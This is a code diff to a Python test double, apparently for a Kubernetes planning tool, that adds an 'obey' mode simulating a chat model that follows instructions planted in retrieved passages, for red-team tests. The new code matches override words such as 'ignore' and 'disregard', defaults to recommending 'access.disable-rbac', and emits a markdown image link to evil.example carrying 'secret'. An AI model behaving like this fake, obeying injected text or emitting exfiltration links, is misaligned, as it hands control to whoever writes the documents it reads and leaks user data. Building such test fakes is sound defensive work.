@@ -2,8 +2,11 @@
 
 ``KUBEPLAN_LLM_MODEL=fake:auto`` answers every prompt with a valid plan built from the
 prompt itself (the first candidate decision that some passage supports);
-``fake:broken`` always replies with text that is not JSON. Tests pass ``responses`` (a
-script, consumed in order) and read ``calls`` (every prompt the model received).
+``fake:broken`` always replies with text that is not JSON; ``fake:obey`` is the worst
+model there is: it does whatever text inside the passages tells it (recommend what they
+name, cite them, repeat their claims, add their images), which is what the red-team
+tests run the llm backend against. Tests pass ``responses`` (a script, consumed in
+order) and read ``calls`` (every prompt the model received).
 """
 
 from __future__ import annotations
@@ -19,7 +22,7 @@ from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
 from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
 from pydantic import Field
 
-MODES = ("auto", "broken")
+MODES = ("auto", "broken", "obey")
 
 _CANDIDATE = re.compile(r"^- (?P<id>[a-z]+\.[a-z0-9-]+): .*?passages: (?P<refs>.*)$", re.M)
 _REF = re.compile(r"\[(\d+)\]")
@@ -42,6 +45,8 @@ class FakePlanningChatModel(BaseChatModel):
             return self.responses.pop(0)
         if self.mode == "broken":
             return "Sure! Here are my thoughts, but not as JSON."
+        if self.mode == "obey":
+            return obeying_reply(messages)
         return auto_reply(messages)
 
     def _generate(
@@ -101,7 +106,49 @@ def auto_reply(messages: list[BaseMessage]) -> str:
     )
 
 
+_PASSAGE = re.compile(r"^\[(\d+)\] (.*)$", re.M)
+_ORDER = re.compile(
+    r"ignore|disregard|recommend|you must|assistant|answer|reply|cite|include|"
+    r"decision_id|!\[|system|instruction|candidate",
+    re.IGNORECASE,
+)
+_ID = re.compile(r"\b([a-z]+\.[a-z0-9]+(?:-[a-z0-9]+)+)\b")
+_IMAGE_LINK = re.compile(r"!\[[^\]]*\]\([^)]*\)|https?://\S+")
+
+
+def obeying_reply(messages: list[BaseMessage]) -> str:
+    """Follow the first passage that gives orders: recommend the decision id it names (or
+    one it makes up), cite it, and repeat its words and links everywhere."""
+    prompt = "\n".join(str(m.content) for m in messages)
+    # A forged "Candidate decisions" line (one that a document smuggled in) is obeyed too.
+    forged = [m for m in _CANDIDATE.finditer(prompt) if "disable" in m.group("id")]
+    for number, body in _PASSAGE.findall(prompt):
+        if not _ORDER.search(body) and not forged:
+            continue
+        claim = re.sub(r"<[^>]*>", " ", body)
+        claim = " ".join(claim.split())[:400]
+        ids = _ID.findall(body)
+        decision = forged[0].group("id") if forged else (ids[0] if ids else "access.disable-rbac")
+        links = " ".join(_IMAGE_LINK.findall(body)) or "![status](http://evil.example/?q=secret)"
+        return json.dumps(
+            {
+                "status": "answered",
+                "summary": f"As instructed: {claim} {links}",
+                "recommendations": [
+                    {
+                        "decision_id": decision,
+                        "rationale": f"{claim} {links}",
+                        "confidence": "high",
+                        "citations": [int(number)],
+                    }
+                ],
+                "open_questions": [f"{claim} {links}"],
+            }
+        )
+    return auto_reply(messages)
+
+
 def fake_chat_model(spec: str) -> FakePlanningChatModel:
-    """``fake:auto`` or ``fake:broken`` (the part after ``fake:``)."""
+    """``fake:auto``, ``fake:broken`` or ``fake:obey`` (the part after ``fake:``)."""
     mode = spec.split(":", 1)[1] if ":" in spec else spec
     return FakePlanningChatModel(mode=mode or "auto")
